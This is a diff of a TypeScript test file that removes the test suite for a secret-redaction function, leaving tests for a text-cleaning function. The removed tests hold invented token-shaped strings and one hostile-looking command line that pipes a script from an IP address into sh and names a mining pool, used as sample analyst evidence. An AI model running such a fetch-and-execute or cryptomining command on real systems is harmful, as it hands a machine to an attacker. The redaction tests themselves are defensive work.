@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { cleanText, MAX_TEXT, redactSecrets } from './clean.ts';
+import { cleanText, MAX_TEXT } from './clean.ts';
 
 const HIDDEN = /[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}\p{Cs}]/u;
 const ESC = String.fromCharCode(0x1b);
@@ -87,53 +87,5 @@ describe('cleanText', () => {
     for (const piece of ['-eyJ', `${ESC}]`, 'password', '://a:', '-----BEGIN PRIVATE KEY-----', 'Bearer ', 'token = '])
       cleanText(piece.repeat(Math.ceil(2_000_000 / piece.length / 4)));
     expect(performance.now() - started).toBeLessThan(10_000);
-  });
-});
-
-// Invented, and put together at run time so that secret scanners do not mistake this file for a leak.
-const SECRETS: readonly (readonly [string, string])[] = [
-  ['a Slack bot token', ['xoxb', '000000000000', 'inventedInvented'].join('-')],
-  ['a GitHub token', `ghp_${'a1B2'.repeat(9)}`],
-  ['a fine-grained GitHub token', `github_pat_${'a1B2'.repeat(9)}`],
-  ['an AWS access key id', `AKIA${'INVENTED00000000'}`],
-  ['a temporary AWS access key id', `ASIA${'INVENTED00000000'}`],
-  ['a JSON web token', `eyJ${'hbGciOiJub25l'}.${'eyJzdWIiOiJpbnZlbnRlZCJ9'}.c2ln`],
-  ['an EKS token', `k8s-aws-v1.${'aW52ZW50ZWQ'}`],
-];
-
-describe('redactSecrets', () => {
-  it.each(SECRETS)('replaces %s wherever it stands', (_name, secret) => {
-    fc.assert(
-      fc.property(
-        fc.constantFrom('', 'run ', '"', '=', '/'),
-        fc.constantFrom('', ' now', '"', '&x=1'),
-        (before, after) => {
-          expect(redactSecrets(`${before}${secret}${after}`)).not.toContain(secret);
-        },
-      ),
-    );
-  });
-
-  it.each([
-    ['curl -H "Authorization: Bearer abcdefgh12345678" x', 'curl -H "Authorization: Bearer [secret]" x'],
-    ['mysql --password hunter22 -h db', 'mysql --password [secret] -h db'],
-    ['DB_PASSWORD=hunter22 ./run', 'DB_PASSWORD=[secret] ./run'],
-    ['{"api_key": "abc def"}', '{"api_key": [secret]}'],
-    ['git clone https://bot:hunter22@git.example.com/x', 'git clone https://bot:[secret]@git.example.com/x'],
-    ['AWS_SECRET_ACCESS_KEY=abcd/efgh+1', 'AWS_SECRET_ACCESS_KEY=[secret]'],
-  ])('keeps the words that say what kind of secret was there: %s', (text, expected) => {
-    expect(redactSecrets(text)).toBe(expected);
-  });
-
-  it('finds a secret that was hidden with zero-width characters or full-width letters', () => {
-    const secret = ['xoxb', '000000000000', 'inventedInvented'].join('-');
-    expect(cleanText([...secret].join('\u200b'))).toContain('[secret]');
-    expect(cleanText(`ｐａｓｓｗｏｒｄ=hunter22`)).toBe('password=[secret]');
-  });
-
-  it('leaves ordinary evidence alone - digests, images and mining pools are what analysts read', () => {
-    const text =
-      'sh -c curl -fsSL http://203.0.113.7/x.sh | sh -o stratum+tcp://pool.example.net:3333 111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/checkout:1.42.0 sha256:3f3f3f3f';
-    expect(redactSecrets(text)).toBe(text);
   });
 });
